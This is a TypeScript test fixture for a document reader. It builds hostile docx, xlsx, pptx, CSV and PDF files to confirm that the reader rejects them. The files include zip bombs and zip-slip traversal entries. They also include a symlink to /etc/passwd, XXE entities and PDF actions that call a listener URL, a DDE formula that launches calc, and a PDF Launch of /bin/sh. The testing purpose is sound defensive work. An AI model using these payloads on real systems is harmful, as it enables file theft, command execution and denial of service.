import { deflateSync } from 'node:zlib';
import type { FailureReason } from '../../../domain/document/limits.ts';
import { fileOf, pdfOf, streamOf } from '../../../infra/document-writing/pdf.ts';
import {
  closeBody,
  contentTypes,
  documentPart,
  docxWith,
  openBody,
  relationshipsOf,
  relationshipTo,
  sheetOf,
  workbookWith,
} from './hostile.ts';
import { partOf, repeatedPart, type ZipPart, zipOfParts } from './raw-zip.ts';

/** A file for one attack of docs/security.md, and the required result of reading it: this text, or this failure reason. */
export type Attack = {
  readonly id: string;
  readonly what: string;
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly end: { readonly text: string } | { readonly reason: FailureReason };
};

/**
 * @param url address of a listener; reading a file must never connect to it
 * @param slip path outside the reader's folder; reading a file must never write to it
 */
export const attacks = (url: string, slip: string): Attack[] => [
  ...archives(),
  ...names(slip),
  ...entities(url),
  ...tables(url),
  ...pdfs(url),
];

const damaged = { reason: 'damaged' } as const;
const tooLarge = { reason: 'tooLarge' } as const;
const words = 'These words are read.';
const readable = { text: words } as const;
const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const body = (text = words) => partOf(documentPart, `${openBody}${paragraph(text)}${closeBody}`);
const cell = (text: string) => `<c r="A1" t="inlineStr"><is><t>${text}</t></is></c>`;
const sheet = (text = words) => sheetOf(`<sheetData><row r="1">${cell(text)}</row></sheetData>`);
const megabyte = 1024 * 1024;

function archives(): Attack[] {
  const kernel = repeatedPart('kernel', { head: '', block: Buffer.alloc(1_000), times: 900, tail: '' });
  const overlapping = Array.from({ length: 4_000 }, (_, at) => ({
    ...kernel,
    name: `xl/media/${at}.bin`,
    bytesOf: 'kernel',
  }));
  const many = Array.from({ length: 6_000 }, (_, at) => partOf(`word/media/${at}`, ''));
  const bomb = { head: openBody, block: Buffer.alloc(megabyte, 'a'), times: 160, tail: closeBody };
  const lying = { ...repeatedPart(documentPart, bomb), claimed: { size: 1_000 } };
  const stored = { ...repeatedPart(documentPart, bomb), claimed: { method: 0 } };
  const few = Buffer.from(docxWith(body()));
  few.writeUInt16LE(40_000, few.length - 12);
  few.writeUInt16LE(40_000, few.length - 14);
  return [
    {
      id: 'A-49',
      what: 'a directory that says 1,000 bytes of 160 MB',
      name: 'lying.docx',
      bytes: docxWith(lying),
      end: damaged,
    },
    {
      id: 'A-49',
      what: '4,000 entries over the same bytes, 3.6 GB together',
      name: 'overlapping.xlsx',
      bytes: workbookWith([sheet()], 1, [kernel, ...overlapping]),
      end: tooLarge,
    },
    {
      id: 'A-49',
      what: '6,000 entries',
      name: 'entries.docx',
      bytes: docxWith(body(), ...many),
      end: tooLarge,
    },
    {
      id: 'A-49',
      what: 'a directory of 40,000 entries that has 3',
      name: 'few.docx',
      bytes: few,
      end: tooLarge,
    },
    {
      id: 'A-49',
      what: 'a directory that says a deflated part is stored',
      name: 'stored.docx',
      bytes: docxWith(stored),
      end: tooLarge,
    },
  ];
}

function names(slip: string): Attack[] {
  const link = (name: string, to: string): ZipPart => ({
    ...partOf(name, to),
    // A Unix symbolic link with all permissions.
    claimed: { attributes: 0xa1ff * 65_536 },
  });
  return [
    {
      id: 'A-50',
      what: 'an entry outside of the archive',
      name: 'slip.docx',
      bytes: docxWith(body(), partOf(`../../../../../..${slip}`, 'slipped')),
      end: damaged,
    },
    {
      id: 'A-50',
      what: 'an entry with an absolute name',
      name: 'absolute.xlsx',
      bytes: workbookWith([sheet()], 1, [partOf(slip, 'slipped')]),
      end: damaged,
    },
    {
      id: 'A-50',
      what: 'an entry with back slashes',
      name: 'back.docx',
      bytes: docxWith(body(), partOf(`..\\..\\..${slip.replaceAll('/', '\\')}`, 'slipped')),
      end: damaged,
    },
    {
      id: 'A-50',
      what: 'a symbolic link to a file of the machine as a part that is read',
      name: 'link.docx',
      bytes: docxWith(link(documentPart, '/etc/passwd')),
      end: damaged,
    },
    {
      id: 'A-50',
      what: 'a symbolic link and an entry below it',
      name: 'below.docx',
      bytes: docxWith(body(), link('word/media', '/tmp'), partOf('word/media/slipped', 'slipped')),
      end: readable,
    },
  ];
}

function entities(url: string): Attack[] {
  const dtd = `<!DOCTYPE a SYSTEM "${url}/a.dtd">`;
  const external = `<!DOCTYPE a [<!ENTITY x SYSTEM "${url}/x">]>`;
  const document = (head: string, used: string) =>
    docxWith(
      partOf(documentPart, `${head}${openBody.slice(openBody.indexOf('<w:'))}${paragraph(used)}${closeBody}`),
    );
  const rest = (parts: readonly ZipPart[]) => docxWith(body(), ...parts);
  return [
    { what: 'an external DTD in a docx', name: 'dtd.docx', bytes: document(dtd, words) },
    {
      what: 'an external entity in the relationships of a docx',
      name: 'relations.docx',
      bytes: rest([partOf('word/_rels/document.xml.rels', `${external}${relationshipsOf('&x;')}`)]),
    },
    {
      what: 'an external entity in a sheet',
      name: 'xxe.xlsx',
      bytes: workbookWith([`${external}${sheet('&x;')}`]),
    },
    {
      what: 'an external entity in shared strings in UTF-16',
      name: 'wide.xlsx',
      bytes: workbookWith([sheet()], 1, [
        partOf(
          'xl/sharedStrings.xml',
          Buffer.from(`\ufeff${external}<sst><si><t>&x;</t></si></sst>`, 'utf16le'),
        ),
      ]),
    },
    { what: 'an external entity in a slide', name: 'xxe.pptx', bytes: slides(`${external}${slide('&x;')}`) },
  ]
    .map((file): Attack => ({ id: 'A-51', ...file, end: damaged }))
    .concat([
      {
        id: 'A-51',
        what: 'entities in a drawing and in custom XML of a presentation, which are not read',
        name: 'drawing.pptx',
        bytes: slides(slide(words), [
          partOf('customXml/item1.xml', `${external}<a>&x;</a>`),
          partOf('ppt/media/image1.svg', `${external}<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`),
        ]),
        end: readable,
      },
    ]);
}

const drawing = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"';
const showing = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"';
const relating = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const slide = (text: string) =>
  `<p:sld ${showing} ${drawing}><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>${text}</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`;

function slides(content: string, more: readonly ZipPart[] = []): Buffer {
  const type = 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml';
  return zipOfParts([
    contentTypes(`<Override PartName="/ppt/presentation.xml" ContentType="${type}"/>`),
    partOf('_rels/.rels', relationshipsOf(relationshipTo('officeDocument', 'ppt/presentation.xml'))),
    partOf(
      'ppt/presentation.xml',
      `<p:presentation ${showing} ${relating}><p:sldIdLst><p:sldId id="256" r:id="rslide"/></p:sldIdLst></p:presentation>`,
    ),
    partOf('ppt/_rels/presentation.xml.rels', relationshipsOf(relationshipTo('slide', 'slides/slide1.xml'))),
    partOf('ppt/slides/slide1.xml', content),
    ...more,
  ]);
}

function tables(url: string): Attack[] {
  const text = (
    what: string,
    name: string,
    content: string | Buffer,
    end: Attack['end'] = readable,
  ): Attack => ({
    id: 'A-52',
    what,
    name,
    bytes: Buffer.from(content),
    end,
  });
  const columns = Array.from({ length: 100_000 }, (_, at) => at).join(',');
  const strings = `<sst><si><t>${words}${'x'.repeat(30_000)}</t></si></sst>`;
  const used = Array.from(
    { length: 1_000 },
    (_, at) => `<row r="${at + 1}"><c r="A${at + 1}" t="s"><v>0</v></c></row>`,
  );
  const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml';
  const formula = `<row r="1">${cell(words)}<c r="B1"><f>cmd|' /C calc'!A0</f><v>1</v></c><c r="C1"><f>WEBSERVICE("${url}/f")</f><v>2</v></c></row>`;
  return [
    text('100,000 columns in 10 rows', 'columns.csv', `${words}\n${`${columns}\n`.repeat(10)}`),
    text('a quote that is never closed', 'quote.csv', `${words},1\n"${'not closed,2\n'.repeat(400_000)}`),
    text('UTF-16', 'wide.csv', Buffer.from(`\ufeff${words};1\n`, 'utf16le')),
    text(
      'two encodings',
      'mixed.csv',
      Buffer.concat([Buffer.from(`${words};ü\n`), Buffer.from('ü;\xff\n', 'latin1')]),
    ),
    {
      ...text('formulas that start programs and fetch pages', 'dde.xlsx', ''),
      bytes: workbookWith([sheetOf(`<sheetData>${formula}</sheetData>`)]),
    },
    {
      ...text('one long shared string in 1,000 cells', 'strings.xlsx', ''),
      bytes: workbookWith(
        [sheetOf(`<sheetData>${used.join('')}</sheetData>`)],
        1,
        [partOf('xl/sharedStrings.xml', strings)],
        `<Override PartName="/xl/sharedStrings.xml" ContentType="${type}"/>`,
      ),
    },
  ];
}

function pdfs(url: string): Attack[] {
  const objects = (catalogue: string, ...more: readonly string[]) => [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 4 0 R >> >> /Contents 5 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    streamOf('', Buffer.from(`BT /F 10 Tf 50 700 Td (${words}) Tj ET`)),
    ...more,
  ];
  const file = (parts: readonly (string | Buffer)[], trailer = '') =>
    fileOf(
      parts.map((part) => Buffer.from(part)),
      trailer,
    );
  const changed = (parts: readonly (string | Buffer)[], at: number, part: string) =>
    file(parts.map((before, index) => (index === at ? part : before)));
  const looping = Buffer.from(pdfOf([{ texts: [{ text: words, x: 50, y: 700 }] }]));
  const table = looping.lastIndexOf('xref\n0');
  const bomb = streamOf(
    '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
    deflateSync(Buffer.concat([Buffer.from('6 0 '), Buffer.alloc(60 * megabyte, ' ')])),
  );
  return [
    {
      what: 'scripts, programs, pages and forms when it opens, is closed, is printed or is clicked',
      bytes: changed(
        objects(
          `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}/j"\\)) >> /AA << /WC << /S /URI /URI (${url}/u) >> /WP << /S /SubmitForm /F << /FS /URL /F (${url}/s) >> >> >>`,
          '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (/bin/sh) /P (-c id) >> >>',
        ),
        2,
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [6 0 R] /AA << /O << /S /GoToR /F << /FS /URL /F (${url}/g) >> >> >> /Resources << /Font << /F 4 0 R >> >> /Contents 5 0 R >>`,
      ),
      end: readable,
    },
    {
      what: 'content in a file elsewhere',
      bytes: changed(objects(''), 4, `<< /Length 0 /F << /FS /URL /F (${url}/c) >> >>\nstream\n\nendstream`),
      end: { reason: 'empty' } as const,
    },
    {
      what: 'a table of objects that names itself as the one before',
      bytes: file(objects(''), `/Prev ${table} `),
      end: readable,
    },
    {
      what: 'a tree of pages that contains itself',
      bytes: changed(objects(''), 1, '<< /Type /Pages /Count 1 /Kids [2 0 R] >>'),
      end: damaged,
    },
    {
      what: 'a page that is its own content',
      bytes: changed(objects(''), 4, '5 0 R'),
      end: { reason: 'empty' } as const,
    },
    {
      what: 'a tree of pages that claims 100,000 and has 1',
      bytes: changed(objects(''), 1, '<< /Type /Pages /Count 100000 /Kids [3 0 R] >>'),
      end: readable,
    },
    {
      what: '100,000 pages',
      bytes: changed(objects(''), 1, `<< /Type /Pages /Count 100000 /Kids [${'3 0 R '.repeat(100_000)}] >>`),
      end: readable,
    },
    {
      what: 'a stream of objects that inflates to 60 MB',
      bytes: file([...objects(''), bomb]),
      end: tooLarge,
    },
  ].map((one, at) => ({ id: 'A-53', name: `${at}.pdf`, ...one }));
}
